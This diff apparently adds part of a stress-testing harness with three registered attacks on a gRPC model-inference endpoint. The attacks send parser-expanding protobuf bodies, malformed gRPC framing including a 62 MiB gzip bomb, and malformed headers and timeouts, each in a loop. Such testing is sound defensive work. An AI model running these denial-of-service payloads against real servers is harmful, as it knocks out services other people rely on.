@@ -1,0 +1,65 @@
+"""gRPC: messages that lie, and that grow in the parser."""
+
+from peer import GRPC, H2, data, grpc_message, packed, pb, varint
+from registry import attack
+
+PATH = '/inference.GRPCInferenceService/ModelInfer'
+
+
+def calls(target, bodies, path=PATH, extra=GRPC):
+    """Unary calls with these bodies, 50 to a connection."""
+    sent = 0
+    while not target.over():
+        with H2(target, wait=5) as h2:
+            for i in range(50):
+                body = bodies[i % len(bodies)]
+                stream = 2 * i + 1
+                h2.send(h2.head(stream, path, 'POST', end=False, extra=extra))
+                for at in range(0, max(len(body), 1), 16000):
+                    h2.send(data(stream, body[at:at + 16000], end=at + 16000 >= len(body)))
+                    if target.over() or not h2.pump():
+                        break
+                sent += 1
+                while not target.over() and stream not in h2.closed_streams and h2.pump(0.1):
+                    pass
+                if target.over() or not h2.alive:
+                    break
+    return f'{sent} calls'
+
+
+@attack(quick=4)
+def protobuf_that_grows(target):
+    """A megabyte of empty tensors, of empty strings, of map entries, of unknown groups."""
+    count = target.size(500_000, 200_000)
+    bodies = [pb(1, 'identity') + pb(5, b'') * count, pb(1, 'identity') + pb(7, b'') * count, pb(1, 'identity') + pb(4, b'') * count,
+              pb(1, 'identity') + pb(5, pb(1, 'x') + pb(2, 'BYTES') + pb(3, varint(1)) + pb(5, pb(8, b'') * count)),
+              pb(1, 'identity') + b'\x9b\x06' * 50_000]
+    return calls(target, [grpc_message(b) for b in bodies])
+
+
+@attack(quick=4)
+def grpc_framing(target):
+    """Lengths beyond the limit, flags that are none, left-over bytes, gzip that is none, and 62 MiB of zeros in 64 KB."""
+    coded = (*GRPC, ('grpc-encoding', 'gzip'))
+    bodies = [b'\0\xff\xff\xff\xff' + b'abc', b'\2\0\0\0\0', grpc_message(b'') + b'xyz', b'\0\0\0\0\x0ashort', grpc_message(packed(bytes(62 << 20), 9), 1),
+              grpc_message(b'no gzip', 1), b'']
+    return calls(target, bodies, extra=coded)
+
+
+@attack(quick=4)
+def grpc_metadata(target):
+    """Bad base64 in -bin, timeouts that are none, te that is none, methods that nobody knows."""
+    fields = [(('x-bin', '!!!'),), (('grpc-timeout', '99999999H'),), (('grpc-timeout', '1x'),), (('grpc-timeout', ''),), (('x-long', 'y' * 120),),
+              (('te', 'x' * 120),)]
+    sent = 0
+    while not target.over():
+        with H2(target, wait=5) as h2:
+            for i in range(100):
+                extra = (('content-type', 'application/grpc'), *fields[i % len(fields)])
+                path = PATH if i % 7 else f'/no.Such/M{i}'
+                h2.send(h2.head(2 * i + 1, path, 'POST', end=False, extra=extra) + data(2 * i + 1, grpc_message(b'')))
+                sent += 1
+                if not h2.pump():
+                    break
+            h2.pump(0.2)
+    return f'{sent} calls'
